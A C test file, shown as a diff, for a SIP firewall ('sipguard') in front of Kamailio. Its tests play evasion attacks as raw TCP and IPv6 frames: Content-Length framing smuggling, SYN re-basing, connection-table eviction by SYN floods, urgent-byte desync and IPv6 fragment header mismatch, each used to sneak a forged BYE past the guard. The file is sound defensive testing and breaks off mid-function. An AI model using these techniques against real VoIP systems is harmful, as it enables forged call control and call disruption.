@@ -1,0 +1,1621 @@
+/*
+ * test_attack.c: a security review of "nothing unjudged" (SPEC 1, README
+ * "Nothing unjudged: TCP, fragments, direction"), written as attacks.
+ *
+ * Each test plays one attack against an in-process engine and states
+ * what sipguard must do for the rule to hold: every byte the proxy
+ * (Kamailio on Linux) acts on as SIP has been judged, or is dropped; a
+ * phone's traffic is not dropped; no table an attacker fills switches a
+ * protection off.  A test that FAILS demonstrates a hole: its comment
+ * says what Linux and Kamailio do with the same bytes.
+ *
+ * The Kamailio references are to src/core/tcp_read.c, tcp_read_headers()
+ * (the TCP framer: which bytes make one message); the Linux ones to
+ * net/ipv4/tcp_input.c and net/ipv6/reassembly.c.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include <arpa/inet.h>
+
+#include <cmocka.h>
+
+#include "hash.h"
+#include "scenario.h"
+
+#define DOMAIN	"example.com"
+
+struct ua {
+	const char	*user;
+	struct pg_ep	 ep;
+};
+
+static const struct pg_ep PROXY = { { 2, 0, 0, 0, 0, 1 }, "192.0.2.1",
+    5060 };
+static const struct pg_ep PROXY6 = { { 2, 0, 0, 0, 0, 1 }, "2001:db8::1",
+    5060 };
+static const struct ua ALICE = { "alice", { { 2, 0, 0, 0, 0, 0x11 },
+    "198.51.100.11", 5060 } };
+static const struct ua ALICE6 = { "alice", { { 2, 0, 0, 0, 0, 0x11 },
+    "2001:db8::11", 5060 } };
+/* An outsider, never registered, from her own address and MAC. */
+static const struct pg_ep EVE = { { 2, 0, 0, 0, 0, 0x66 }, "203.0.113.66",
+    5060 };
+/* Eve on Alice's LAN, forging Alice's address from her own MAC. */
+static const struct pg_ep EVE_AS_ALICE = { { 2, 0, 0, 0, 0, 0x66 },
+    "198.51.100.11", 5060 };
+static const struct pg_ep EVE_AS_ALICE6 = { { 2, 0, 0, 0, 0, 0x66 },
+    "2001:db8::11", 5060 };
+
+static const char *const SETS_BASE[] = {
+	"proxy.addresses = [\"192.0.2.1\", \"2001:db8::1\"]",
+	NULL,
+};
+
+/* ---- helpers (copied from scenarios.c, which keeps them static) ------- */
+
+static void
+aor(char *buf, size_t len, const char *user)
+{
+	snprintf(buf, len, "sip:%s@" DOMAIN, user);
+}
+
+static void
+hostport(char *buf, size_t len, const char *host, uint16_t port)
+{
+	if (strchr(host, ':') != NULL)
+		snprintf(buf, len, "[%s]:%u", host, port);
+	else
+		snprintf(buf, len, "%s:%u", host, port);
+}
+
+/* A full registration: REGISTER, 401, REGISTER with credentials, 200. */
+static void
+reg_to(struct scn *s, const struct ua *u, const struct pg_ep *proxy,
+    int expires, const char *label)
+{
+	char		 cid[64], nonce[64], auth[256], contact[160], c200[200];
+	char		 a[64], via[80], wa[128];
+	struct pg_msg	 m, r;
+
+	aor(a, sizeof(a), u->user);
+	scn_token(s, cid, sizeof(cid));
+	hostport(via, sizeof(via), u->ep.ip, u->ep.port);
+	snprintf(contact, sizeof(contact), "<sip:%s@%s>", u->user, via);
+	memset(&m, 0, sizeof(m));
+	m.method = "REGISTER";
+	m.ruri = "sip:" DOMAIN;
+	m.via = via;
+	m.from = a;
+	m.to = a;
+	m.call_id = cid;
+	m.cseq = 1;
+	m.contact = contact;
+	m.expires = expires;
+	scn_send(s, &u->ep, proxy, &m);
+	scn_expect(s, "accept", label);
+
+	scn_token(s, nonce, sizeof(nonce));
+	snprintf(wa, sizeof(wa), "WWW-Authenticate: Digest realm=\""
+	    DOMAIN "\", nonce=\"%s\"\r\n", nonce);
+	memset(&r, 0, sizeof(r));
+	r.status = 401;
+	r.via = via;
+	r.from = a;
+	r.to = a;
+	r.to_tag = "reg";
+	r.call_id = cid;
+	r.cseq = 1;
+	r.cseq_method = "REGISTER";
+	r.raw_headers = wa;
+	r.expires = -1;
+	scn_send(s, proxy, &u->ep, &r);
+	scn_expect(s, "accept", "outbound");
+
+	snprintf(auth, sizeof(auth), "Digest username=\"%s\", realm=\"" DOMAIN
+	    "\", nonce=\"%s\", uri=\"sip:" DOMAIN "\", response=\"%032x\", "
+	    "algorithm=MD5", u->user, nonce, (unsigned)s->seq * 2654435761u);
+	m.cseq = 2;
+	m.auth = auth;
+	scn_send(s, &u->ep, proxy, &m);
+	scn_expect(s, "accept", label);
+
+	snprintf(c200, sizeof(c200), "%s;expires=%d", contact, expires);
+	r.status = 200;
+	r.cseq = 2;
+	r.contact = c200;
+	r.raw_headers = NULL;
+	scn_send(s, proxy, &u->ep, &r);
+	scn_expect(s, "accept", "outbound");
+}
+
+static void
+reg(struct scn *s, const struct ua *u)
+{
+	reg_to(s, u, &PROXY, 3600, "x");
+}
+
+/*
+ * A request as text: `from_user' to bob, Via on `via_ip'.  `extra' is
+ * appended to the headers verbatim; `clen' < 0 leaves Content-Length to
+ * pg_sip (0 without a body).
+ */
+static size_t
+request_text(char *buf, size_t len, const char *via_ip,
+    const char *from_user, const char *method, const char *call_id,
+    const char *extra)
+{
+	char		 a[64], b[64], via[80];
+	struct pg_msg	 m;
+
+	aor(a, sizeof(a), from_user);
+	aor(b, sizeof(b), "bob");
+	hostport(via, sizeof(via), via_ip, 5060);
+	memset(&m, 0, sizeof(m));
+	m.method = method;
+	m.via = via;
+	m.from = a;
+	m.to = b;
+	m.from_tag = "ft";
+	m.to_tag = strcmp(method, "BYE") == 0 ? "tt" : NULL;
+	m.call_id = call_id;
+	m.cseq = 7;
+	m.expires = -1;
+	m.raw_headers = extra;
+	return pg_sip(buf, len, &m);
+}
+
+/* ---- raw TCP ------------------------------------------------------------ */
+
+static uint32_t
+sum16(uint32_t s, const uint8_t *p, size_t n)
+{
+	for (; n >= 2; p += 2, n -= 2)
+		s += (uint32_t)(p[0] << 8 | p[1]);
+	if (n)
+		s += (uint32_t)(p[0] << 8);
+	return s;
+}
+
+static uint16_t
+fold(uint32_t s)
+{
+	while (s >> 16)
+		s = (s & 0xffff) + (s >> 16);
+	return (uint16_t)~s;
+}
+
+/* The L4 checksum of an Ethernet + IPv4 (20 bytes) or IPv6 (40) frame. */
+static void
+l4_csum(uint8_t *f, size_t n, int csum_off)
+{
+	bool		 v6 = f[12] == 0x86 && f[13] == 0xdd;
+	uint8_t		*ip = f + 14, *l4 = ip + (v6 ? 40 : 20);
+	size_t		 l4len = n - (size_t)(l4 - f);
+	uint8_t		 ph[8] = { 0 };
+	uint32_t	 s = 0;
+
+	l4[csum_off] = l4[csum_off + 1] = 0;
+	s = v6 ? sum16(s, ip + 8, 32) : sum16(s, ip + 12, 8);
+	ph[0] = (uint8_t)(l4len >> 24);
+	ph[1] = (uint8_t)(l4len >> 16);
+	ph[2] = (uint8_t)(l4len >> 8);
+	ph[3] = (uint8_t)l4len;
+	ph[7] = v6 ? ip[6] : ip[9];
+	s = sum16(s, ph, 8);
+	s = sum16(s, l4, l4len);
+	l4[csum_off] = (uint8_t)(fold(s) >> 8);
+	l4[csum_off + 1] = (uint8_t)fold(s);
+}
+
+/*
+ * One TCP segment (IPv4) with every field the attack needs: flags (0:
+ * PSH|ACK), acknowledgement, urgent pointer.  The checksum is right.
+ */
+static void
+tcp_seg(struct scn *s, const struct pg_ep *src, const struct pg_ep *dst,
+    uint32_t seq, uint32_t ack, uint8_t flags, uint16_t urg, const void *p,
+    size_t len)
+{
+	static uint8_t		 f[70000];
+	struct pg_frame_opt	 opt = { .tcp = true, .seq = seq, .ack = ack,
+				    .tcp_flags = flags };
+	size_t			 n = pg_frame(f, sizeof(f), src, dst, p, len,
+				    &opt);
+
+	if (urg) {
+		f[14 + 20 + 18] = (uint8_t)(urg >> 8);
+		f[14 + 20 + 19] = (uint8_t)urg;
+		l4_csum(f, n, 16);
+	}
+	scn_send_frame(s, f, n);
+}
+
+static struct pg_ep
+port_of(const struct pg_ep *ep, uint16_t port)
+{
+	struct pg_ep	 e = *ep;
+
+	e.port = port;
+	return e;
+}
+
+/*
+ * A complete handshake: client ISN 0 (its data starts at 1), the proxy's
+ * ISN 5000.  Every frame of it is accepted.
+ */
+static void
+handshake(struct scn *s, const struct pg_ep *cli)
+{
+	tcp_seg(s, cli, &PROXY, 0, 0, 0x02, 0, "", 0);
+	tcp_seg(s, &PROXY, cli, 5000, 1, 0x12, 0, "", 0);
+	tcp_seg(s, cli, &PROXY, 1, 5001, 0x10, 0, "", 0);
+}
+
+/* ---- expectations ------------------------------------------------------- */
+
+static const char *
+first_reason(const struct scn *s)
+{
+	return s->seen.nres ? sg_reason_str(s->seen.res[0].r) : "(no result "
+	    "line: held or passed unjudged)";
+}
+
+/* The last frame must be dropped: it delivers a forged message. */
+static void
+must_drop(struct scn *s, const char *what)
+{
+	if (s->verdict != SG_DROP)
+		scn_failf(s, "frame %llu (%s): accepted, reason %s -- the "
+		    "proxy acts on bytes nobody judged",
+		    (unsigned long long)s->frame, what, first_reason(s));
+}
+
+/* The last frame must be accepted: it is a phone's (or the proxy's). */
+static void
+must_accept(struct scn *s, const char *what)
+{
+	if (s->verdict != SG_ACCEPT)
+		scn_failf(s, "frame %llu (%s): dropped, reason %s",
+		    (unsigned long long)s->frame, what, first_reason(s));
+}
+
+static void
+run(void (*fn)(struct scn *), const char *name, const char *const *sets)
+{
+	struct scn	 s;
+
+	if (scn_init(&s, name, sets, NULL, true) == 0)
+		fn(&s);
+	if (s.nfail > 0)
+		print_message("%s", s.fail);
+	assert_int_equal(s.nfail, 0);
+	scn_fini(&s);
+}
+
+/* The forged message every TCP attack below smuggles in: a BYE in
+ * Alice's name, with Alice's Via, from Eve's connection. */
+static size_t
+forged_bye(char *buf, size_t len)
+{
+	return request_text(buf, len, ALICE.ep.ip, "alice", "BYE",
+	    "smuggled-bye", NULL);
+}
+
+/*
+ * Control: the same forged BYE sent plainly on Eve's connection is
+ * judged and dropped (masquerade or spoof), so in the attacks below any
+ * "accept" of the segment that completes it for Kamailio is the hole.
+ */
+static void
+control_plain(struct scn *s)
+{
+	static char	 bye[2048];
+	struct pg_ep	 eve = port_of(&EVE, 33000);
+	size_t		 n;
+
+	reg(s, &ALICE);
+	n = forged_bye(bye, sizeof(bye));
+	handshake(s, &eve);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, bye, n);
+	must_drop(s, "plain forged BYE");
+}
+
+static void
+t_control_plain(void **st)
+{
+	(void)st;
+	run(control_plain, "control_plain", SETS_BASE);
+}
+
+/* ==== 1. Content-Length framing differs from Kamailio's ================= */
+
+/*
+ * Kamailio frames TCP with its own state machine (tcp_read_headers), not
+ * with its SIP parser, and sipguard's sipm_frame() differs from it:
+ *  - change_state_case(H_CONT_LEN7, '-', '_', ...): "Content_Length" is a
+ *    Content-Length to Kamailio's framer; sipguard's header_id() knows
+ *    only "content-length" and "l";
+ *  - content_len_beg_case on ' ' / '\t' (H_STARTWS): a line that starts
+ *    with whitespace and then "Content-Length:" is a Content-Length to
+ *    the framer; to SIP (and to sipguard) it is a folded continuation of
+ *    the previous header, ignored;
+ *  - the first Content-Length the framer recognises wins
+ *    (!TCP_REQ_HAS_CLEN), later ones are skipped.
+ * So a message carrying "Content_Length: 0" (or " Content-Length: 0")
+ * and then "Content-Length: 60000" ends at its blank line for Kamailio,
+ * and is the start of a 60 KB message for sipguard: held, the segment
+ * accepted, nothing judged ("the proxy cannot act on it alone" is false).
+ * Eve puts this cover message first and the forged BYE after it in the
+ * same segment: Kamailio frames the cover (which its parser or a
+ * sanity_check() may refuse: irrelevant) and then the BYE, whole and
+ * clean, and acts on it.  Any outsider with a TCP connection can do it.
+ * (Without sanity's Content-Length check the BYE can carry the two
+ * headers itself: same result.)
+ */
+static size_t
+cover_kam(char *buf, size_t len, const char *kam_clen)
+{
+	return (size_t)snprintf(buf, len, "OPTIONS sip:" DOMAIN " SIP/2.0\r\n"
+	    "Via: SIP/2.0/TCP 203.0.113.66;branch=z9hG4bKcov\r\n"
+	    "From: <sip:eve@" DOMAIN ">;tag=1\r\nTo: <sip:eve@" DOMAIN ">\r\n"
+	    "Call-ID: cover-kam\r\nCSeq: 1 OPTIONS\r\n"
+	    "%sContent-Length: 60000\r\n\r\n", kam_clen);
+}
+
+static void
+smuggle_with(struct scn *s, const char *kam_clen, uint16_t port,
+    const char *what)
+{
+	static char	 seg[8192];
+	struct pg_ep	 eve = port_of(&EVE, port);
+	size_t		 n;
+
+	n = cover_kam(seg, sizeof(seg), kam_clen);
+	n += forged_bye(seg + n, sizeof(seg) - n);
+	handshake(s, &eve);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, seg, n);
+	/* Kamailio: the cover (Content-Length 0), then the BYE, routed. */
+	must_drop(s, what);
+}
+
+static void
+clen_underscore(struct scn *s)
+{
+	reg(s, &ALICE);
+	smuggle_with(s, "Content_Length: 0\r\n", 33001,
+	    "cover with Content_Length: 0, then a forged BYE");
+}
+
+static void
+clen_folded(struct scn *s)
+{
+	reg(s, &ALICE);
+	smuggle_with(s, "Subject: hi\r\n Content-Length: 0\r\n", 33002,
+	    "cover with a folded Content-Length: 0, then a forged BYE");
+}
+
+static void
+t_clen_underscore(void **st)
+{
+	(void)st;
+	run(clen_underscore, "clen_underscore", SETS_BASE);
+}
+
+static void
+t_clen_folded(void **st)
+{
+	(void)st;
+	run(clen_folded, "clen_folded", SETS_BASE);
+}
+
+/*
+ * The start line too: Kamailio's framer reads it as a Content-Length
+ * when it begins "Content-Length" (or "l") then ':' (H_SKIP_EMPTY
+ * 'C'/'l' -> H_CONT_LEN1/H_L_COLON).  The line is no valid request, but
+ * sipguard never reads the start line of a message it is still holding:
+ * "Content-Length :0 SIP/2.0" + "Content-Length: 60000" is held,
+ * Kamailio frames 0 bytes of body and then the forged BYE.
+ */
+static void
+clen_first_line(struct scn *s)
+{
+	static char	 seg[4096];
+	struct pg_ep	 eve = port_of(&EVE, 33003);
+	size_t		 n;
+
+	reg(s, &ALICE);
+	n = (size_t)snprintf(seg, sizeof(seg), "Content-Length :0 SIP/2.0\r\n"
+	    "Via: SIP/2.0/TCP 203.0.113.66;branch=z9hG4bKfl\r\n"
+	    "From: <sip:eve@" DOMAIN ">;tag=1\r\nTo: <sip:eve@" DOMAIN ">\r\n"
+	    "Call-ID: fl\r\nCSeq: 1 OPTIONS\r\nContent-Length: 60000\r\n"
+	    "\r\n");
+	n += forged_bye(seg + n, sizeof(seg) - n);
+	handshake(s, &eve);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, seg, n);
+	must_drop(s, "start line read as Content-Length by Kamailio");
+}
+
+static void
+t_clen_first_line(void **st)
+{
+	(void)st;
+	run(clen_first_line, "clen_first_line", SETS_BASE);
+}
+
+/* ==== 2. SYN on an established connection re-bases the stream ========== */
+
+/*
+ * stream_input(): an inbound SYN on a known connection at a message
+ * boundary sets next = seq + 1.  Linux never does: a SYN on an
+ * ESTABLISHED socket gets a challenge ACK and is discarded (RFC 5961 4.2,
+ * tcp_validate_incoming() "syn_challenge"), rcv_nxt is unchanged.
+ * After it, sipguard takes bytes the proxy already holds for new ones:
+ * Eve re-bases the stream k bytes back, then sends a segment whose first
+ * k bytes are a cover header "REGISTER ... Content-Length: 60000" and
+ * whose rest is the forged BYE.  Linux trims the k old bytes
+ * (tcp_data_queue: seq < rcv_nxt, the new part is queued) and Kamailio
+ * reads a whole BYE; sipguard holds "REGISTER + 60000 bytes of body":
+ * accepted, never judged.
+ */
+static size_t
+cover(char *buf, size_t len, size_t bodylen)
+{
+	return (size_t)snprintf(buf, len, "REGISTER sip:" DOMAIN " SIP/2.0\r\n"
+	    "Via: SIP/2.0/TCP 203.0.113.66:33010;branch=z9hG4bKcover\r\n"
+	    "From: <sip:eve@" DOMAIN ">;tag=1\r\nTo: <sip:eve@" DOMAIN ">\r\n"
+	    "Call-ID: cover\r\nCSeq: 1 REGISTER\r\n"
+	    "Content-Length: %zu\r\n\r\n", bodylen);
+}
+
+static void
+syn_rebase(struct scn *s)
+{
+	static char	 seg[8192];
+	struct pg_ep	 eve = port_of(&EVE, 33010);
+	char		 crlf[201];
+	size_t		 k, nb;
+	uint32_t	 rcv_nxt;
+
+	reg(s, &ALICE);
+	handshake(s, &eve);
+	/* 200 bytes the proxy takes and acknowledges (keep-alives). */
+	memset(crlf, 0, sizeof(crlf));
+	for (int i = 0; i < 200; i += 2)
+		memcpy(crlf + i, "\r\n", 2);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, crlf, 200);
+	must_accept(s, "keep-alives");
+	rcv_nxt = 201;
+	tcp_seg(s, &PROXY, &eve, 5001, rcv_nxt, 0x10, 0, "", 0);
+
+	k = cover(seg, sizeof(seg), 60000);
+	nb = forged_bye(seg + k, sizeof(seg) - k);
+	/* Linux: challenge ACK, discarded.  sipguard: next = rcv_nxt - k. */
+	tcp_seg(s, &eve, &PROXY, rcv_nxt - 1 - (uint32_t)k, 0, 0x02, 0, "",
+	    0);
+	tcp_seg(s, &eve, &PROXY, rcv_nxt - (uint32_t)k, 5001, 0, 0, seg,
+	    k + nb);
+	/* Linux: the first k bytes are old, trimmed; Kamailio: the BYE. */
+	must_drop(s, "cover header + forged BYE after a SYN");
+}
+
+static void
+t_syn_rebase(void **st)
+{
+	(void)st;
+	run(syn_rebase, "syn_rebase", SETS_BASE);
+}
+
+/* ==== 3. A forgotten connection is picked up k bytes in the past ======== */
+
+/*
+ * A connection sipguard no longer tracks is picked up at any segment
+ * that starts a SIP message, at that segment's sequence number.  That
+ * trusts the proxy to hold nothing of the segment: false when it begins
+ * before the proxy's rcv_nxt, which Linux trims silently.  Forgetting is
+ * the attacker's to trigger: the table is recycled at message boundaries
+ * (here: 16 slots, a burst of spoofed SYNs; by default 16,384 of them,
+ * a second of a modest SYN flood), and idle connections expire
+ * (tcp.idle_timeout) while Kamailio may keep them open longer (phones
+ * behind NAT are commonly given tcp_connection_lifetime = 3605).
+ */
+static const char *const SETS_SMALL_STREAMS[] = {
+	"proxy.addresses = [\"192.0.2.1\", \"2001:db8::1\"]",
+	"tables.streams = 16",
+	NULL,
+};
+
+static void
+evict_pickup(struct scn *s)
+{
+	static char	 seg[8192];
+	struct pg_ep	 eve = port_of(&EVE, 33020);
+	char		 crlf[201];
+	size_t		 k, nb;
+	uint32_t	 rcv_nxt = 201;
+
+	reg(s, &ALICE);
+	handshake(s, &eve);
+	memset(crlf, 0, sizeof(crlf));
+	for (int i = 0; i < 200; i += 2)
+		memcpy(crlf + i, "\r\n", 2);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, crlf, 200);
+	tcp_seg(s, &PROXY, &eve, 5001, rcv_nxt, 0x10, 0, "", 0);
+	/* SYNs from spoofed sources: each takes a slot, Eve's is recycled. */
+	for (int i = 0; i < 40; i++) {
+		char		 ip[32];
+		struct pg_ep	 fake = EVE;
+
+		snprintf(ip, sizeof(ip), "203.0.113.%d", 100 + i);
+		fake.ip = ip;
+		fake.port = (uint16_t)(40000 + i);
+		tcp_seg(s, &fake, &PROXY, 0, 0, 0x02, 0, "", 0);
+	}
+	k = cover(seg, sizeof(seg), 60000);
+	nb = forged_bye(seg + k, sizeof(seg) - k);
+	tcp_seg(s, &eve, &PROXY, rcv_nxt - (uint32_t)k, 5001, 0, 0, seg,
+	    k + nb);
+	must_drop(s, "picked up k bytes before rcv_nxt");
+}
+
+static void
+t_evict_pickup(void **st)
+{
+	(void)st;
+	run(evict_pickup, "evict_pickup", SETS_SMALL_STREAMS);
+}
+
+/*
+ * Without spoofing and with the default tables: one device may hold
+ * tcp.streams_per_source (256) connections and "recycles its own oldest
+ * idle or boundary connection" beyond.  Eve opens 256 more connections
+ * (a SYN each) from her own address: her first one is forgotten.
+ */
+static void
+quota_pickup(struct scn *s)
+{
+	static char	 seg[8192];
+	struct pg_ep	 eve = port_of(&EVE, 33025);
+	char		 crlf[201];
+	size_t		 k, nb;
+	uint32_t	 rcv_nxt = 201;
+
+	reg(s, &ALICE);
+	handshake(s, &eve);
+	memset(crlf, 0, sizeof(crlf));
+	for (int i = 0; i < 200; i += 2)
+		memcpy(crlf + i, "\r\n", 2);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, crlf, 200);
+	tcp_seg(s, &PROXY, &eve, 5001, rcv_nxt, 0x10, 0, "", 0);
+	for (int i = 0; i < 256; i++) {
+		struct pg_ep	 other = port_of(&EVE, (uint16_t)(50000 + i));
+
+		tcp_seg(s, &other, &PROXY, 0, 0, 0x02, 0, "", 0);
+	}
+	k = cover(seg, sizeof(seg), 60000);
+	nb = forged_bye(seg + k, sizeof(seg) - k);
+	tcp_seg(s, &eve, &PROXY, rcv_nxt - (uint32_t)k, 5001, 0, 0, seg,
+	    k + nb);
+	must_drop(s, "picked up after the per-device quota recycled it");
+}
+
+static void
+t_quota_pickup(void **st)
+{
+	(void)st;
+	run(quota_pickup, "quota_pickup", SETS_BASE);
+}
+
+/*
+ * The same through idle expiry: Eve's connection is quiet for longer
+ * than tcp.idle_timeout (30 min by default) while Kamailio keeps it: the
+ * stock kamailio.cfg sets tcp_connection_lifetime=3605 ("a bit higher
+ * than registration expires to cope with UA behind NAT"), not the
+ * compiled-in 120 s the README assumes.
+ */
+static void
+idle_pickup(struct scn *s)
+{
+	static char	 seg[8192];
+	struct pg_ep	 eve = port_of(&EVE, 33021);
+	char		 crlf[201];
+	size_t		 k, nb;
+	uint32_t	 rcv_nxt = 201;
+
+	reg(s, &ALICE);
+	handshake(s, &eve);
+	memset(crlf, 0, sizeof(crlf));
+	for (int i = 0; i < 200; i += 2)
+		memcpy(crlf + i, "\r\n", 2);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, crlf, 200);
+	tcp_seg(s, &PROXY, &eve, 5001, rcv_nxt, 0x10, 0, "", 0);
+	scn_wait(s, 1801);
+	k = cover(seg, sizeof(seg), 60000);
+	nb = forged_bye(seg + k, sizeof(seg) - k);
+	tcp_seg(s, &eve, &PROXY, rcv_nxt - (uint32_t)k, 5001, 0, 0, seg,
+	    k + nb);
+	must_drop(s, "picked up after idle expiry, k bytes before rcv_nxt");
+}
+
+static void
+t_idle_pickup(void **st)
+{
+	(void)st;
+	run(idle_pickup, "idle_pickup", SETS_BASE);
+}
+
+/*
+ * Forgetting without a flood: an insertion, then a reset at sipguard's
+ * idea of the next sequence number.  A data segment without ACK is
+ * discarded by Linux on an established socket (tcp_rcv_established /
+ * tcp_validate_incoming: "!th->ack" -> discard) but taken by sipguard,
+ * whose `next' then runs ahead of rcv_nxt.  A RST at sipguard's `next'
+ * is in Linux's window but not exactly rcv_nxt: challenge ACK, the
+ * connection lives (RFC 5961 3.2); sipguard frees its state.  Then the
+ * pickup of finding 3.
+ */
+static void
+noack_rst_pickup(struct scn *s)
+{
+	static char	 seg[8192];
+	struct pg_ep	 eve = port_of(&EVE, 33022);
+	char		 crlf[201];
+	size_t		 k, nb;
+	uint32_t	 rcv_nxt = 201;
+
+	reg(s, &ALICE);
+	handshake(s, &eve);
+	memset(crlf, 0, sizeof(crlf));
+	for (int i = 0; i < 200; i += 2)
+		memcpy(crlf + i, "\r\n", 2);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, crlf, 200);
+	tcp_seg(s, &PROXY, &eve, 5001, rcv_nxt, 0x10, 0, "", 0);
+	/* Insertion: 4 bytes of keep-alive with PSH only (no ACK). */
+	tcp_seg(s, &eve, &PROXY, rcv_nxt, 0, 0x08, 0, "\r\n\r\n", 4);
+	/* RST at sipguard's next (rcv_nxt + 4): Linux challenge-ACKs. */
+	tcp_seg(s, &eve, &PROXY, rcv_nxt + 4, 0, 0x04, 0, "", 0);
+	k = cover(seg, sizeof(seg), 60000);
+	nb = forged_bye(seg + k, sizeof(seg) - k);
+	tcp_seg(s, &eve, &PROXY, rcv_nxt - (uint32_t)k, 5001, 0, 0, seg,
+	    k + nb);
+	must_drop(s, "after a no-ACK insertion and a RST Linux refuses");
+}
+
+static void
+t_noack_rst_pickup(void **st)
+{
+	(void)st;
+	run(noack_rst_pickup, "noack_rst_pickup", SETS_BASE);
+}
+
+/* ==== 4. TCP urgent data ================================================ */
+
+/*
+ * Linux takes the byte the urgent pointer marks out of the stream
+ * (tcp_check_urg/tcp_urg; tcp_recvmsg skips it unless SO_OOBINLINE,
+ * which Kamailio does not set): read() never returns it.  sipguard reads
+ * the segment whole.  Eve sends the forged BYE with "Content-Length: 90"
+ * where the '9' is the urgent byte: Kamailio reads "Content-Length: 0",
+ * a whole BYE; sipguard waits for 90 more bytes, holds, accepts.
+ * (Linux's default, tcp_stdurg = 0, has the pointer one past the byte.)
+ */
+static void
+urgent_byte(struct scn *s)
+{
+	static char	 bye[4096];
+	struct pg_ep	 eve = port_of(&EVE, 33030);
+	size_t		 n;
+	char		*cl;
+
+	reg(s, &ALICE);
+	n = forged_bye(bye, sizeof(bye));
+	/* "Content-Length: 0\r\n\r\n" -> "Content-Length: 90\r\n\r\n" */
+	cl = strstr(bye, "Content-Length: 0\r\n");
+	assert_non_null(cl);
+	memmove(cl + 17, cl + 16, (size_t)(bye + n - (cl + 16)));
+	cl[16] = '9';
+	n++;
+	handshake(s, &eve);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0x38 /* URG|PSH|ACK */,
+	    (uint16_t)(cl + 16 - bye + 1), bye, n);
+	must_drop(s, "forged BYE whose Content-Length digit is urgent data");
+}
+
+static void
+t_urgent_byte(void **st)
+{
+	(void)st;
+	run(urgent_byte, "urgent_byte", SETS_BASE);
+}
+
+/*
+ * The urgent pointer may also ride on a segment without data (a pure
+ * ACK with URG) and point ahead: tcp_check_urg() records urg_seq for a
+ * byte not yet received and tcp_urg() takes it out of whichever later
+ * segment carries it, URG flag or not.  So a fix must refuse the pointer
+ * wherever it comes (drop any segment with URG set: SIP has no use for
+ * urgent data), not only data segments that carry it.
+ */
+static void
+urgent_ahead(struct scn *s)
+{
+	static char	 bye[4096];
+	struct pg_ep	 eve = port_of(&EVE, 33031);
+	size_t		 n;
+	char		*cl;
+	enum sg_verdict	 v1;
+
+	reg(s, &ALICE);
+	n = forged_bye(bye, sizeof(bye));
+	cl = strstr(bye, "Content-Length: 0\r\n");
+	assert_non_null(cl);
+	memmove(cl + 17, cl + 16, (size_t)(bye + n - (cl + 16)));
+	cl[16] = '9';
+	n++;
+	handshake(s, &eve);
+	/* A pure ACK with URG, pointer one past the future '9'. */
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0x30 /* URG|ACK */,
+	    (uint16_t)(cl + 16 - bye + 1), "", 0);
+	v1 = s->verdict;
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, bye, n);
+	if (v1 == SG_ACCEPT)
+		must_drop(s, "BYE whose '9' a previous URG ACK marked urgent");
+}
+
+static void
+t_urgent_ahead(void **st)
+{
+	(void)st;
+	run(urgent_ahead, "urgent_ahead", SETS_BASE);
+}
+
+/* ==== 5. IPv6 fragments: the next header is not part of the key ======== */
+
+/*
+ * frag_hash() and ctx_get() key a datagram on (src, dst, id, proto), the
+ * proto being each fragment's own Next Header.  Linux's IPv6 key
+ * (net/ipv6/reassembly.c fq_find: frag_v6_compare_key) is (src, dst, id,
+ * iif) and takes the upper protocol from the first fragment alone
+ * (fq->nhoffset, set when offset == 0).  Eve sends the first fragment of
+ * a forged UDP BYE with Next Header 17 and the last with Next Header 59:
+ * sipguard holds two incomplete datagrams and accepts both fragments;
+ * Linux reassembles one UDP datagram and Kamailio acts on the BYE.
+ */
+static size_t
+v6_frag(uint8_t *f, const struct pg_ep *src, const struct pg_ep *dst,
+    uint8_t nh, uint32_t id, uint16_t off, bool more, const uint8_t *p,
+    size_t len)
+{
+	memcpy(f, dst->mac, 6);
+	memcpy(f + 6, src->mac, 6);
+	f[12] = 0x86;
+	f[13] = 0xdd;
+	memset(f + 14, 0, 40);
+	f[14] = 0x60;
+	f[14 + 4] = (uint8_t)((len + 8) >> 8);
+	f[14 + 5] = (uint8_t)(len + 8);
+	f[14 + 6] = 44;
+	f[14 + 7] = 64;
+	inet_pton(AF_INET6, src->ip, f + 14 + 8);
+	inet_pton(AF_INET6, dst->ip, f + 14 + 24);
+	f[54] = nh;
+	f[55] = 0;
+	f[56] = (uint8_t)(off >> 8);
+	f[57] = (uint8_t)((off & 0xf8) | (more ? 1 : 0));
+	f[58] = (uint8_t)(id >> 24);
+	f[59] = (uint8_t)(id >> 16);
+	f[60] = (uint8_t)(id >> 8);
+	f[61] = (uint8_t)id;
+	memcpy(f + 62, p, len);
+	return 62 + len;
+}
+
+/* A UDP datagram over IPv6 with its (mandatory) checksum. */
+static size_t
+udp6(uint8_t *out, const struct pg_ep *src, const struct pg_ep *dst,
+    const void *p, size_t len)
+{
+	uint8_t		 ph[40];
+	uint32_t	 s = 0;
+	size_t		 ul = len + 8;
+
+	out[0] = (uint8_t)(src->port >> 8);
+	out[1] = (uint8_t)src->port;
+	out[2] = (uint8_t)(dst->port >> 8);
+	out[3] = (uint8_t)dst->port;
+	out[4] = (uint8_t)(ul >> 8);
+	out[5] = (uint8_t)ul;
+	out[6] = out[7] = 0;
+	memcpy(out + 8, p, len);
+	inet_pton(AF_INET6, src->ip, ph);
+	inet_pton(AF_INET6, dst->ip, ph + 16);
+	s = sum16(s, ph, 32);
+	memset(ph, 0, 8);
+	ph[2] = (uint8_t)(ul >> 8);
+	ph[3] = (uint8_t)ul;
+	ph[7] = 17;
+	s = sum16(s, ph, 8);
+	s = sum16(s, out, ul);
+	out[6] = (uint8_t)(fold(s) >> 8);
+	out[7] = (uint8_t)fold(s);
+	return ul;
+}
+
+static void
+v6_frag_nh(struct scn *s)
+{
+	static char	 bye[4096], body[2001];
+	static uint8_t	 dg[6000], f[7000];
+	struct pg_msg	 m;
+	char		 a[64], b[64];
